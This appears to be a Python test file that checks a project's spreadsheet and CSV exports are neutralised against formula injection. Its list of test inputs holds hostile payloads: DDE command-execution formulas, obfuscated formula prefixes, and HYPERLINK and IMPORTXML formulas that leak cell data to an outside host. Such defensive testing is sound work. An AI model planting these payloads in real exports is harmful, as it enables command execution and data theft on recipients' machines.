"""Texts that a spreadsheet would run, put wherever a text from outside can stand."""

import ast
import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from xlsxwriter import Workbook

import reports.handouts.sheet
import reports.workbook
from contract.quarantine import _harmless
from reports.spreadsheet import inert, inert_frame

PROJECT = Path(__file__).parent.parent.parent
ATTACKS = (
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u3000=1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    ' "\t＝1+1',
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://example.invalid","//a")',
)
HARMLESS = ("张*伟", "WG001", "", "a=b", "12-34", "user@example.invalid", "（＝）")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_becomes_text_in_every_writer(attack):
    assert inert(attack) == f"'{attack}"
    assert _harmless(attack) == f"'{attack}"
    frame = pd.DataFrame({attack: [attack, None], "code": pd.Categorical([attack, attack])})
    rows = list(csv.reader(io.StringIO(inert_frame(frame).to_csv(index=False), newline="")))
    assert [cell[0] for row in rows for cell in row if cell] == ["'", "c", "'", "'", "'"]


def test_a_lone_carriage_return_begins_no_row():
    frame = pd.DataFrame({"name": ["Li\r=1+1", "Wu\r\n=1+1"]})
    rows = list(csv.reader(io.StringIO(inert_frame(frame).to_csv(index=False), newline="")))
    assert rows == [["name"], ["Li\n=1+1"], ["Wu\n=1+1"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_numbers_are_left_alone(text):
    assert inert(text) == text
    told = inert_frame(pd.DataFrame({"amount": [-1.5], "text": [text]}))
    assert told.to_dict("list") == {"amount": [-1.5], "text": [text]}


@pytest.mark.parametrize("options", [reports.workbook.OPTIONS, reports.handouts.sheet._OPTIONS])
def test_workbooks_hold_no_formula_and_no_link(options):
    content = io.BytesIO()
    with Workbook(content, {**options, "in_memory": True}) as book:
        sheet = book.add_worksheet()
        for row, attack in enumerate((*ATTACKS, "http://example.invalid", "file:///etc/passwd")):
            sheet.write(row, 0, attack)
    book = openpyxl.load_workbook(content)
    assert {cell.data_type for row in book.active for cell in row} == {"s"}
    with zipfile.ZipFile(content) as parts:
        whole = "".join(parts.read(name).decode() for name in parts.namelist())
    assert "<f>" not in whole
    assert "hyperlink" not in whole
    assert "externalLink" not in whole


def test_only_inert_tables_are_written_as_csv():
    for path in _sources():
        for call in _calls(path, "to_csv"):
            told = ast.unparse(call)
            own = told.startswith(("inert_frame(", "in_yuan("))
            place = path.relative_to(PROJECT).as_posix()
            # The export is inert by its columns (test below); a digest is read by nobody.
            exports = {"reports/table.py", "pipeline/scoring/lists.py"}
            digests = {"pipeline/monitoring.py", "pipeline/plan_scores.py"}
            assert own or place in exports | digests, f"{place}: {told}"


def test_every_workbook_is_opened_with_the_options_that_run_nothing():
    for path in _sources():
        for call in _calls(path, "Workbook"):
            if "simulator" not in path.parts:
                assert ast.unparse(call.args[1]) in {"_OPTIONS", "OPTIONS"}, path


def _sources():
    for package in ("contract", "features", "models", "collection", "reports", "pipeline"):
        yield from (PROJECT / package).rglob("*.py")


def _calls(path, name):
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.Call):
            called = getattr(node.func, "attr", getattr(node.func, "id", ""))
            if called == name:
                yield node
